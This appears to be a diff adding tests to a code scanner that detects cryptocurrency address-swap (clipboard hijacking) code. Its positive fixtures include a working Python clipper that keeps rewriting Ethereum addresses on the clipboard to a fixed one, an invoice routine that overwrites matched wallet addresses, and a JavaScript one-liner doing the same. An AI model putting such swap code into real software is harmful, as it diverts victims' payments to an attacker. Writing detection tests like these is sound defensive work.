@@ -588,3 +588,60 @@ def test_what_is_written_to_a_request_object_is_sent_where_the_request_goes() ->
     assert scan_text("scripts/setup.cjs", plain) == []
     local = leak.replace("registry.templates.example", "localhost")
     assert scan_text("scripts/setup.cjs", local) == []  # the machine's own gateway
+
+
+BTC, ETH, TRX = (
+    "bc1qx7f3k9w2m5ah8d0rj4y6ltv2n3pq8s5ce9uz4g",
+    "0x9A3fE21b7C04d5e8F6a1B2c3D4e5F60718293aBc",
+    ("TQn9Y2khEsLJW1ChVWFMSMeRDow5KcbLSE"),
+)
+
+
+def test_fixed_wallet_addresses_put_where_matched_ones_were_are_an_address_swap() -> None:
+    clipper = (
+        "import re, time, pyperclip\n"
+        f'SWAPS = [(re.compile(r"\\b0x[a-fA-F0-9]{{40}}\\b"), "{ETH}")]\n'
+        "while True:\n"
+        "    text = pyperclip.paste()\n"
+        "    for pat, repl in SWAPS:\n"
+        "        text = pat.sub(repl, text)\n"
+        "    pyperclip.copy(text)\n"
+        "    time.sleep(0.5)\n"
+    )
+    assert _rules(scan_text("scripts/clip.py", clipper)) == {"address-swap"}
+    files = (
+        f'CANON = {{"btc": "{BTC}", "eth": "{ETH}", "trx": "{TRX}"}}\n'
+        'PATTERNS = {"eth": re.compile(r"^0x[a-fA-F0-9]{40}$"),\n'
+        '            "trx": re.compile(r"^T[1-9A-HJ-NP-Za-km-z]{33}$")}\n'
+        "def normalise(payment):\n"
+        "    for coin, pat in PATTERNS.items():\n"
+        "        if pat.match(str(payment.get(coin, ''))):\n"
+        "            payment[coin] = CANON[coin]\n"
+    )
+    assert _rules(scan_text("scripts/invoice.py", files)) == {"address-swap"}
+    direct = f'const out = text.replace(/0x[a-fA-F0-9]{{40}}/g, "{ETH}");\n'
+    assert _rules(scan_text("scripts/fmt.js", direct)) == {"address-swap"}
+
+
+def test_a_validator_with_example_addresses_and_a_donation_address_are_no_swap() -> None:
+    validator = (
+        "import re\n"
+        f'EXAMPLES = {{"btc": "{BTC}", "eth": "{ETH}", "trx": "{TRX}"}}\n'
+        'PATTERNS = {"eth": re.compile(r"^0x[a-fA-F0-9]{40}$"),\n'
+        '            "btc": re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,62}$")}\n'
+        "def valid(coin, address):\n"
+        "    return bool(PATTERNS[coin].match(address.replace(' ', '')))\n"
+        "for coin, address in EXAMPLES.items():\n"
+        "    cleaned = address.replace(' ', '')\n"
+        "    assert valid(coin, cleaned)\n"
+    )
+    assert scan_text("scripts/validate.py", validator) == []
+    donate = (
+        "import re, pyperclip\n"
+        f'DONATE = "{ETH}"  # tips welcome\n'
+        "address = pyperclip.paste().strip()\n"
+        'if not re.fullmatch(r"0x[a-fA-F0-9]{40}", address):\n'
+        '    raise SystemExit("the clipboard holds no Ethereum address")\n'
+        "pyperclip.copy(address.lower())\n"
+    )
+    assert scan_text("scripts/checksum.py", donate) == []
